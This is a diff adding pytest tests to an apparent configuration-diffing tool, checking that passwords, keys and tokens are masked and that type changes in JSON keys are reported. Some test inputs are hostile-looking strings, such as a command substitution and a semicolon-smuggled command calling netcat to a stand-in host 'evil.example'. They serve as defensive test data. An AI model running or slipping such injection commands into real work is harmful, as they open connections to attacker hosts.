@@ -280,3 +280,58 @@ def test_two_different_contents_always_give_a_fact(tmp_path_factory, old, new, n
 def test_deep_documents_do_not_exhaust_the_worker(tmp_path):
     deep = json.dumps([[]]).encode().replace(b"[]", b"[" * 900 + b"]" * 900)
     assert pair(tmp_path, deep, deep + b"\n1", "x.json").facts
+
+
+@pytest.mark.parametrize(
+    ("text", "hidden", "shown"),
+    [
+        ('psk="my secret phrase"', "phrase", "psk"),
+        ("wpa_passphrase=correct horse battery staple", "horse", "wpa_passphrase"),
+        ("passwd: 'two words'", "words", "passwd"),
+        ('{"password": "hun,ter2", "host": "evil.example"}', "ter2", "evil.example"),
+        ("root:ab1c2d3e4f5gh:0:0", "ab1c2d3e4f5gh", "root"),
+        ("dlms_ak = 00112233445566778899AABBCCDDEEFF", "778899", "dlms_ak"),
+        ("encryption_key: 0011aabb", "aabb", "encryption_key"),
+        ("pwd=hunter2", "hunter2", "pwd"),
+        ("Authorization: Basic dXNlcjpodW50ZXIy", "ZXIy", "Authorization"),
+        ("mqtt://user:hunter2@host.example/", "hunter2", "host.example"),
+        ("curl --password hunter2 http://evil.example", "hunter2", "evil.example"),
+        ("password = $(nc evil.example 4444)", "hunter2", "evil.example"),
+        ("token=hunter2; nc evil.example 4444", "hunter2", "evil.example"),
+        ("<password>hunter2</password><host>evil</host>", "hunter2", "evil"),
+    ],
+)
+def test_what_is_masked_and_what_stays(text, hidden, shown):
+    assert hidden not in masked(text)
+    assert shown in masked(text)
+
+
+def test_values_behind_a_key_named_key_are_masked():
+    assert masked_value("wifi-iface.key", "hunter2") == "***"
+    assert masked_value("monkey", "hunter2") == "hunter2"
+    assert masked_value("bypass.passive", "hunter2") == "hunter2"
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        (b'{"limit": "0", "v": 1}', b'{"limit": 0, "v": 2}'),
+        (b'{"limit": "False", "v": 1}', b'{"limit": false, "v": 2}'),
+        (b'{"limit": null, "v": 1}', b'{"limit": "None", "v": 2}'),
+        (b'{"limit": {}, "v": 1}', b'{"limit": "(empty)", "v": 2}'),
+        (b'{"limit": "", "v": 1}', b'{"limit": {"": ""}, "v": 2}'),
+        (b'{"a.limit": 1, "v": 1}', b'{"a": {"limit": 1}, "v": 2}'),
+        (b'{"limit.": 1, "v": 1}', b'{"limit": 1, "v": 2}'),
+        (b'{"limit": 1, "v": 1}', b'{"LIMIT": 1, "v": 2}'),
+        (b'{"limit": 1, "v": 1}', b'{"limit": 1, "limit": 0, "v": 2}'),
+    ],
+)
+def test_a_change_of_kind_does_not_hide_behind_another_change(old, new):
+    facts = key_facts(old, new, "a.json")
+    assert facts is not None
+    assert [each for each in facts if "limit" in each.text.lower()]
+
+
+def test_long_keys_in_deep_tables_are_told_by_their_lines():
+    deep = b'{"%s":' % (b"a" * 2000) * 150 + b'{"b":1}' + b"}" * 150
+    assert key_facts(deep, deep.replace(b":1", b":2"), "a.json") is None
